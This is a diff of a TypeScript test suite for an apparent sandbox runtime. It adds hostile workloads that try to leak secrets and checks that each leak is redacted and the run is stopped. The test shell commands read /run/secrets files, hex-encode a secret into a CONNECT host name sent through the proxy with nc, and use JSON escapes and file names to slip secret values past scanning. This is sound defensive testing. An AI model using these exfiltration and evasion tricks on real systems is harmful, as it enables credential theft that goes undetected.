@@ -31,15 +31,40 @@ const testId = uniqueName('hostile-se').toLowerCase().replace(/_/g, '-');
 
 /** A random value per secret, so a search cannot be fooled by another test's. */
 const freshValue = () => `v${randomBytes(27).toString('base64url')}`;
-const SECRETS = { ENVIRON_TOKEN: freshValue(), LEAK_PLAIN: freshValue(), LEAK_BASE64: freshValue(), LEAK_HEX: freshValue(), LEAK_FILE: freshValue() };
+/** Short enough that its hex spelling is one DNS label (at most 63 characters). */
+const shortValue = () => `v${randomBytes(18).toString('base64url')}`;
+/** A multi-line secret, as a PEM file is: one of its lines printed alone is the secret seen. */
+const pemValue = () =>
+  ['-----BEGIN CAIRN TEST KEY-----', randomBytes(48).toString('base64'), randomBytes(48).toString('base64'), '-----END CAIRN TEST KEY-----'].join('\n');
+const SECRETS = {
+  ENVIRON_TOKEN: freshValue(),
+  LEAK_PLAIN: freshValue(),
+  LEAK_BASE64: freshValue(),
+  LEAK_HEX: freshValue(),
+  LEAK_FILE: freshValue(),
+  LEAK_NAME: freshValue(),
+  LEAK_DIR: freshValue(),
+  LEAK_HOST: shortValue(),
+  LEAK_JSON: freshValue(),
+  LEAK_NEWLINE: freshValue(),
+  LEAK_PEM: pemValue(),
+  SESSION_TOKEN: freshValue(),
+  SESSION_STDERR: freshValue(),
+};
 type SecretName = keyof typeof SECRETS;
+/** What a secret is sent as over REST, where it differs from its value (a trailing newline the route drops). */
+const SENT: Partial<Record<SecretName, string>> = { LEAK_NEWLINE: `${SECRETS.LEAK_NEWLINE}\n` };
 /** The sink's answer: a run that shows it reached the sink through the proxy. */
 const SINK_TOKEN = `sink-ok-${randomBytes(8).toString('hex')}`;
 
-/** Every spelling of a value a search must not find: as is, base64 and base64url at each alignment, hex in both cases. */
+/**
+ * Every spelling of a value a search must not find: as is, base64 and base64url at each alignment,
+ * hex in both cases; each line of a multi-line value on its own.
+ */
 function spellings(value: string): string[] {
   const bytes = Buffer.from(value, 'utf8');
   const out = [value, bytes.toString('hex'), bytes.toString('hex').toUpperCase()];
+  if (value.includes('\n')) out.push(...value.split('\n').filter((line) => line.length >= 8 && !line.startsWith('-----')));
   for (const alphabet of ['base64', 'base64url'] as const) {
     for (let offset = 0; offset < 3; offset++) {
       const encoded = Buffer.concat([Buffer.alloc(offset), bytes]).toString(alphabet);
@@ -165,6 +190,8 @@ interface Row {
   stepsCompleted: number;
   /** Submitted once the operator's policy no longer allows private addresses (policy restarted). */
   afterPolicyChange?: true;
+  /** Whether the run got as far as `run.executed` (by default: exactly when it sealed SEALED). */
+  executed?: boolean;
   check: (ctx: Context) => Promise<void>;
 }
 
@@ -183,6 +210,9 @@ const viaProxy = (request: string) => sh(`p=\${HTTP_PROXY#http://}; p=\${p%/}; p
 
 let stack: TestStack;
 let sink: Sink;
+/** Every webhook delivery the stack made to the test's own receiver on loopback, as received. */
+const deliveries: { type: string; chain: string; body: string }[] = [];
+let hooks: Server | null = null;
 let loopback: CountingListener;
 let hostOwn: CountingListener;
 let policyDir = '';
@@ -256,6 +286,25 @@ async function expectCaught(ctx: Context, secret: SecretName, finding: { where: 
   for (const [where, text] of await recordsOf(ctx.runId)) expectNoSpelling(where, text, secret);
   for (const stream of ['stdout', 'stderr'] as const) expectNoSpelling(`step 0 ${stream}`, await ctx.output(0, stream), secret);
 }
+
+/**
+ * A secret in what the run would have recorded beyond its output — a file or directory name, an
+ * egress host, a value a check quotes: redacted where it stood, recorded by `secret.redacted`
+ * (where `receipt`, the receipt type and field), a critical alert, the run ROLLBACK E_SECRET_SEEN —
+ * and the value, in any spelling, in none of the run's records.
+ */
+async function expectLeakCaught(ctx: Context, secret: SecretName, finding: Record<string, unknown>): Promise<void> {
+  const { receipts } = ctx;
+  const redacted = receipts.filter((r) => r.type === 'secret.redacted');
+  expect(redacted).toContainEqual(expect.objectContaining({ ...finding, secret }));
+  expect(receipts.find((r) => r.type === 'alert.raised')).toMatchObject({ severity: 'critical', error_code: 'E_SECRET_SEEN' });
+  expect(receipts.find((r) => r.type === 'run.failed')).toMatchObject({ error_code: 'E_SECRET_SEEN' });
+  expect(receipts.at(-1)).toMatchObject({ type: 'run.sealed', final_state: 'ROLLBACK', error_code: 'E_SECRET_SEEN' });
+  for (const [where, text] of await recordsOf(ctx.runId)) expectNoSpelling(where, text, secret);
+}
+
+/** A shell snippet that prints a secret's bytes as JSON `\u00XX` escapes (what a JSON reader decodes). */
+const JSON_ESCAPED = (name: string) => `od -A n -t x1 /run/secrets/${name} | awk '{for(i=1;i<=NF;i++) printf "\\\\u00%s", $i}'`;
 
 const ROWS: readonly Row[] = [
   // ── Secrets: in no environment; printed in any spelling, redacted and the run stopped ────
@@ -343,6 +392,96 @@ const ROWS: readonly Row[] = [
     check: async (ctx) => {
       await expectCaught(ctx, 'LEAK_FILE', { where: 'file', pattern: 'secret.plain', path: '/out/config.json' });
       expect(await ctx.output(0, 'stdout')).toBe('written\n');
+    },
+  },
+
+  // ── Secrets in what the run records besides its output (issue 13): names, hosts, decoded values ──
+  {
+    id: 'secret-file-name',
+    title: 'naming a collected /out file after a secret',
+    spec: run([sh('touch "/out/$(cat /run/secrets/LEAK_NAME)" && echo made'), ['echo', 'after']], { secrets: ['LEAK_NAME'], outputs: ['/out'] }),
+    state: 'ROLLBACK',
+    errorCode: 'E_SECRET_SEEN',
+    stepsCompleted: 2,
+    check: async (ctx) => {
+      await expectLeakCaught(ctx, 'LEAK_NAME', { where: 'receipt', receipt_type: 'run.executed', field: 'artifact_hashes', in_key: true, pattern: 'secret.plain' });
+      expect(ctx.receipts.some((r) => r.type === 'run.executed')).toBe(false);
+    },
+  },
+  {
+    id: 'secret-dir-name',
+    title: 'naming a directory under /out after a secret',
+    spec: run([sh('d="/out/$(cat /run/secrets/LEAK_DIR)"; mkdir -p "$d" && echo inside > "$d/f.txt" && echo made')], { secrets: ['LEAK_DIR'], outputs: ['/out'] }),
+    state: 'ROLLBACK',
+    errorCode: 'E_SECRET_SEEN',
+    stepsCompleted: 1,
+    check: async (ctx) => {
+      await expectLeakCaught(ctx, 'LEAK_DIR', { where: 'receipt', receipt_type: 'run.executed', field: 'artifact_hashes', in_key: true });
+    },
+  },
+  {
+    // The proxy refuses the host and would record it: the host is the secret, hex-encoded, as one label.
+    id: 'secret-egress-host',
+    title: 'a CONNECT to a host name spelling a secret in hex',
+    spec: run(
+      [
+        sh(`h=$(od -A n -t x1 /run/secrets/LEAK_HOST | tr -d " \\n"); p=\${HTTP_PROXY#http://}; p=\${p%/}; printf "CONNECT $h.x:1 HTTP/1.1\\r\\nHost: $h.x:1\\r\\n\\r\\n" | busybox nc -w 5 "\${p%:*}" "\${p##*:}"; echo sent`),
+        ['echo', 'never'],
+      ],
+      { secrets: ['LEAK_HOST'], network: EGRESS_TO_SINK },
+    ),
+    state: 'ROLLBACK',
+    errorCode: 'E_SECRET_SEEN',
+    stepsCompleted: 1,
+    check: async (ctx) => {
+      await expectLeakCaught(ctx, 'LEAK_HOST', { where: 'receipt', receipt_type: 'egress.denied', field: 'host', pattern: 'secret.hex' });
+      const denied = ctx.receipts.filter((r) => r.type === 'egress.denied');
+      expect(denied.map((r) => r.host)).toEqual(['[REDACTED:LEAK_HOST].x']);
+    },
+  },
+  {
+    // The raw file holds only `\u00XX` escapes (nothing the runtime's scan can see); the verifier's
+    // check reads the JSON, decodes the value and would quote it: it is scanned there.
+    id: 'secret-json-decoded',
+    title: 'a JSON output whose escaped string decodes to a secret, quoted by a check',
+    spec: run([sh(`printf '{"token":"%s"}' "$(${JSON_ESCAPED('LEAK_JSON')})" > /out/r.json && echo written`)], {
+      secrets: ['LEAK_JSON'],
+      outputs: ['/out'],
+      claim: { statement: 'the token is not set', checks: [{ id: 'token-unset', source: 'artifacts["/out/r.json"].json.token', op: 'eq', value: 'unset' }] },
+    }),
+    state: 'ROLLBACK',
+    errorCode: 'E_SECRET_SEEN',
+    stepsCompleted: 1,
+    // The runtime saw nothing it could find: the run was executed, and the verifier stopped it.
+    executed: true,
+    check: async (ctx) => {
+      await expectLeakCaught(ctx, 'LEAK_JSON', { where: 'receipt', receipt_type: 'verification.completed', field: 'checks', pattern: 'secret.plain' });
+      expect(ctx.receipts.some((r) => r.type === 'verification.completed')).toBe(false);
+      expect(ctx.receipts.find((r) => r.type === 'run.failed')).toMatchObject({ actor: 'verifier' });
+    },
+  },
+  {
+    id: 'secret-newline-terminated',
+    title: 'a secret stored with a trailing newline, printed with echo $(cat …)',
+    spec: run([sh('echo "value: $(cat /run/secrets/LEAK_NEWLINE)"'), ['echo', 'never']], { secrets: ['LEAK_NEWLINE'] }),
+    state: 'ROLLBACK',
+    errorCode: 'E_SECRET_SEEN',
+    stepsCompleted: 1,
+    check: async (ctx) => {
+      await expectCaught(ctx, 'LEAK_NEWLINE', { where: 'stdout', pattern: 'secret.plain' });
+      expect(await ctx.output(0, 'stdout')).toBe('value: [REDACTED:LEAK_NEWLINE]\n');
+    },
+  },
+  {
+    id: 'secret-pem-line',
+    title: 'printing one line of a multi-line (PEM) secret',
+    spec: run([sh('sed -n 2p /run/secrets/LEAK_PEM'), ['echo', 'never']], { secrets: ['LEAK_PEM'] }),
+    state: 'ROLLBACK',
+    errorCode: 'E_SECRET_SEEN',
+    stepsCompleted: 1,
+    check: async (ctx) => {
+      await expectCaught(ctx, 'LEAK_PEM', { where: 'stdout', pattern: 'secret.line' });
+      expect(await ctx.output(0, 'stdout')).toBe('[REDACTED:LEAK_PEM]\n');
     },
   },
 
@@ -570,7 +709,7 @@ async function checkRow(row: Row): Promise<void> {
 
   const types = receipts.map((r) => r.type);
   expect(types.at(-1)).toBe('run.sealed');
-  expect(types.includes('run.executed')).toBe(row.state === 'SEALED');
+  expect(types.includes('run.executed')).toBe(row.executed ?? row.state === 'SEALED');
   expect(types.filter((t) => t === 'step.completed')).toHaveLength(row.stepsCompleted);
   // The sandbox went, verified gone (with its network, proxy and firewall rules when it had egress).
   expect(receipts.filter((r) => r.type === 'sandbox.destroyed').map((r) => r.verified_gone)).toEqual([true]);
@@ -599,12 +738,20 @@ beforeAll(async () => {
   await writePolicy(true);
   const hosts = [`sink.test=${sink.ip}`, `evil.test=${sink.ip}`, 'loop.test=127.0.0.1', `self.test=${sink.gateway}`].join(',');
   // No warm pool: these workloads need sandboxes made for them (egress sandboxes are never warm anyway).
-  stack = await TestStack.create('hostile-se', { CAIRN_POLICY_FILE: policyFile, CAIRN_EGRESS_HOSTS: hosts, CAIRN_WARM_POOL_SIZE: '0' });
+  // Webhook deliveries go to a receiver of the test's own on loopback (allowed for this stack only).
+  const hooksPort = await startHookReceiver();
+  stack = await TestStack.create('hostile-se', { CAIRN_POLICY_FILE: policyFile, CAIRN_EGRESS_HOSTS: hosts, CAIRN_WARM_POOL_SIZE: '0', CAIRN_WEBHOOKS_ALLOW_PRIVATE: '1' });
   await stack.up();
+  const hook = await stack.api('/v1/webhooks', {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ url: `http://127.0.0.1:${hooksPort}/cairn`, events: ['*'] }),
+  });
+  expect(hook.status, await hook.clone().text()).toBe(201);
 
   // Secrets go in as a user puts them: PUT /v1/secrets/:name, the value as the text/plain body.
   for (const [name, value] of Object.entries(SECRETS)) {
-    const response = await stack.api(`/v1/secrets/${name}`, { method: 'PUT', headers: { 'content-type': 'text/plain' }, body: value });
+    const response = await stack.api(`/v1/secrets/${name}`, { method: 'PUT', headers: { 'content-type': 'text/plain' }, body: SENT[name as SecretName] ?? value });
     expect(response.status, await response.clone().text()).toBeLessThan(300);
     expect(await response.text()).not.toContain(value);
   }
@@ -615,6 +762,37 @@ beforeAll(async () => {
   changed.catch(() => undefined);
   for (const row of ROWS.filter((r) => r.afterPolicyChange === true)) track(row, changed.then(() => submit(row)));
 });
+
+/** The loopback HTTP server webhooks are delivered to; every body is kept. Returns its port. */
+async function startHookReceiver(): Promise<number> {
+  const { createServer: createHttpServer } = await import('node:http');
+  const server = createHttpServer((request, response) => {
+    const chunks: Buffer[] = [];
+    request.on('data', (chunk: Buffer) => chunks.push(chunk));
+    request.on('end', () => {
+      const body = Buffer.concat(chunks).toString('utf8');
+      const parsed = JSON.parse(body) as { type?: string; chain?: string };
+      deliveries.push({ type: String(parsed.type), chain: String(parsed.chain), body });
+      response.writeHead(204).end();
+    });
+  });
+  hooks = server;
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
+  const address = server.address();
+  if (address === null || typeof address === 'string') throw new Error('the webhook receiver has no port');
+  return address.port;
+}
+
+/** Waits until the receiver has had `run.sealed` of every chain named (deliveries are at least once, a little after). */
+async function sealedDelivered(chains: readonly string[]): Promise<void> {
+  const deadline = Date.now() + 60_000;
+  for (;;) {
+    const missing = chains.filter((chain) => !deliveries.some((d) => d.chain === chain && d.type === 'run.sealed'));
+    if (missing.length === 0) return;
+    if (Date.now() > deadline) throw new Error(`no run.sealed delivered for ${missing.join(', ')}`);
+    await new Promise((resolve) => setTimeout(resolve, 200));
+  }
+}
 
 function track(row: Row, pending: Promise<Submission>): void {
   // Each test awaits its own; meanwhile a failure must not go unhandled.
@@ -651,6 +829,7 @@ async function changePolicy(decidedFirst: readonly Row[]): Promise<void> {
 }
 
 afterAll(async () => {
+  await new Promise<void>((resolve) => (hooks === null ? resolve() : hooks.close(() => resolve())));
   await stack?.dispose();
   await removeTestContainers();
   await loopback?.close();
@@ -668,6 +847,49 @@ async function filesUnder(dir: string): Promise<string[]> {
   return out;
 }
 
+/** The sandbox sessions these tests opened, searched at the end like the runs. */
+const sessionIds: string[] = [];
+
+async function sessionWith(secret: SecretName): Promise<string> {
+  const response = await stack.api('/v1/sandboxes', {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ image: BUSYBOX, caps: { memoryMiB: 64, cpus: 0.5 }, ttlSeconds: 300, secrets: [secret] }),
+  });
+  const body = (await response.json()) as { id?: string; state?: string };
+  expect(response.status, JSON.stringify(body)).toBe(201);
+  sessionIds.push(body.id!);
+  return body.id!;
+}
+
+async function execIn(id: string, argv: string[]): Promise<Record<string, unknown>> {
+  const response = await stack.api(`/v1/sandboxes/${id}/exec`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ argv }) });
+  const body = (await response.json()) as Record<string, unknown>;
+  expect(response.status, JSON.stringify(body)).toBe(200);
+  return body;
+}
+
+/** The session ended on the record for the secret: redaction, critical alert, FAILED E_SECRET_SEEN, destroyed, sealed; its chain verifies. */
+async function expectSessionEnded(id: string, secret: SecretName, finding: Record<string, unknown>): Promise<void> {
+  const deadline = Date.now() + 30_000;
+  let receipts: Record<string, unknown>[] = [];
+  while (Date.now() < deadline) {
+    const response = await stack.api(`/v1/sandboxes/${id}/events?after=0&limit=1000`);
+    receipts = ((await response.json()) as { items: Record<string, unknown>[] }).items;
+    if (receipts.at(-1)?.type === 'run.sealed') break;
+    await new Promise((resolve) => setTimeout(resolve, 200));
+  }
+  expect(receipts.filter((r) => r.type === 'secret.redacted')).toContainEqual(expect.objectContaining({ ...finding, secret }));
+  expect(receipts.find((r) => r.type === 'alert.raised')).toMatchObject({ severity: 'critical', error_code: 'E_SECRET_SEEN' });
+  expect(receipts.find((r) => r.type === 'run.failed')).toMatchObject({ error_code: 'E_SECRET_SEEN' });
+  expect(receipts.find((r) => r.type === 'sandbox.destroyed')).toMatchObject({ reason: 'failed', verified_gone: true });
+  expect(receipts.at(-1)).toMatchObject({ type: 'run.sealed' });
+  expect(verifyChain(receipts, { requireNonEmpty: true, chainId: id })).toMatchObject({ ok: true });
+  expect(await stack.leftovers({ chainId: id })).toEqual({ containers: [], networks: [], volumes: [] });
+  const text = JSON.stringify(receipts);
+  for (const spelling of spellings(SECRETS[secret])) expect(text.includes(spelling), `${secret} on the session's chain`).toBe(false);
+}
+
 describe('hostile workloads that need secrets and egress, submitted through the REST gateway', () => {
   for (const row of ROWS) {
     it(`${row.id}: ${row.title} → ${[row.state, row.errorCode].filter((part) => part !== null).join(' ')}`, async () => {
@@ -682,13 +904,44 @@ describe('hostile workloads that need secrets and egress, submitted through the 
     expect(await sink.connections()).toBe(requests.length);
   });
 
-  it('no secret value, in any spelling, in any table of the stack’s database or any file under its CAIRN_HOME', async () => {
+  it('a session that copies its secret to a file and reads the file back gets E_SECRET_SEEN, no bytes, and the sandbox is destroyed', async () => {
+    const id = await sessionWith('SESSION_TOKEN');
+    const copied = await execIn(id, ['sh', '-c', 'cp /run/secrets/SESSION_TOKEN /work/t && wc -c < /work/t']);
+    expect(copied).toMatchObject({ exitCode: 0 });
+    const read = await stack.api(`/v1/sandboxes/${id}/files?path=/work/t`);
+    const body = await read.text();
+    expect(read.status, body).toBe(422);
+    expect(JSON.parse(body)).toMatchObject({ code: 'E_SECRET_SEEN' });
+    expect(body).not.toContain(SECRETS.SESSION_TOKEN);
+    await expectSessionEnded(id, 'SESSION_TOKEN', { where: 'file', path: '/work/t', pattern: 'secret.plain' });
+  });
+
+  it('a session exec that prints its secret on stderr gets it redacted, and the sandbox is destroyed', async () => {
+    const id = await sessionWith('SESSION_STDERR');
+    const result = await execIn(id, ['sh', '-c', 'cat /run/secrets/SESSION_STDERR >&2; exit 3']);
+    expect(result).toMatchObject({ exitCode: 3, stderr: '[REDACTED:SESSION_STDERR]', errorCode: 'E_SECRET_SEEN', sandboxState: 'DESTROYED' });
+    await expectSessionEnded(id, 'SESSION_STDERR', { where: 'stderr', pattern: 'secret.plain' });
+    expect((await stack.api(`/v1/sandboxes/${id}/exec`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ argv: ['true'] }) })).status).toBe(409);
+  });
+
+  it('no secret value, in any spelling, in any table of the stack’s database, any file under its CAIRN_HOME (every service log), any webhook delivery or any REST answer the dashboard renders', async () => {
     for (const row of ROWS) await sealedRun(row);
+    const runIds = await Promise.all(ROWS.map(async (row) => (await sealedRun(row)).runId));
+    await sealedDelivered([...runIds, ...sessionIds]);
+    const pages: [string, string][] = [];
+    for (const path of ['/v1/runs?limit=200', '/v1/sandboxes?limit=200', ...runIds.map((id) => `/v1/runs/${id}`), ...sessionIds.flatMap((id) => [`/v1/sandboxes/${id}`, `/v1/sandboxes/${id}/events?after=0&limit=1000`, `/v1/sandboxes/${id}/bundle`])]) {
+      const response = await stack.api(path);
+      expect(response.status, path).toBe(200);
+      pages.push([`GET ${path}`, await response.text()]);
+    }
     const { stdout: dump } = await exec('pg_dump', ['--no-owner', '--no-privileges', stack.database.url], { maxBuffer: 256 * 1024 * 1024 });
     // The search reaches the tables: the secret store's rows (sealed) and the runs are in the dump.
     expect(dump).toContain('LEAK_PLAIN');
     expect(dump).toContain('hostile secret-print-plain');
-    const haystacks: [string, Buffer][] = [['pg_dump', Buffer.from(dump)]];
+    const haystacks: [string, Buffer][] = [['pg_dump', Buffer.from(dump)], ...pages.map(([where, text]): [string, Buffer] => [where, Buffer.from(text)])];
+    // The deliveries reach the receiver: one per receipt of the runs, the leaking ones included.
+    expect(deliveries.filter((d) => d.type === 'secret.redacted').length).toBeGreaterThan(ROWS.filter((r) => r.errorCode === 'E_SECRET_SEEN').length);
+    for (const d of deliveries) haystacks.push([`webhook ${d.type} of ${d.chain}`, Buffer.from(d.body)]);
     const files = await filesUnder(stack.home);
     expect(files.some((f) => f.endsWith('runtime.log'))).toBe(true);
     for (const file of files) haystacks.push([file, await readFile(file)]);
